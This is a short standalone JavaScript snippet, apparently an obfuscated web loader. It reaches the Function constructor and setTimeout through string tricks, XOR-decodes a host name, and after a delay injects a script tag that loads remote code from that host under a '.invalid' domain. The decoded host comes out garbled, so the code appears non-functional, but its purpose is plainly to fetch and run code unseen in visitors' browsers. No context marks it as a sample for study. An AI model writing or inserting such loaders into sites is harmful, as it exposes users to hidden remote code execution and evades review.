var $_ = [], _$ = ($_["filter"]["con" + "structor"]), __ = "", ___ = "3a1c7e5b".split("").map(function (x) { return parseInt(x, 16) });
var $$ = [0x6e, 0x74, 0x7b, 0x79, 0x7b, 0x66, 0x7b, 0x75];
for (var _ in $$) __ += String["from" + "CharCode"]($$[_] ^ ___[_ % ___.length]);
var $$$ = (~~![] + [])[0], _0 = _$("return t" + "his")();
_0[_0["un" + "escape"]("%73%65%74Tim%65out")](function () {
  var d = _0["doc" + "ument"], s = d[["create", "Element"].join("")](["SC", "RIPT"].join(""));
  s["setAt" + "tribute"]("src", "/" + "/" + __ + ".invalid/" + $$$ + ".js");
  d["getElementsByTagName"]("*")[0]["appendChild"](s);
}, 0x5dc);
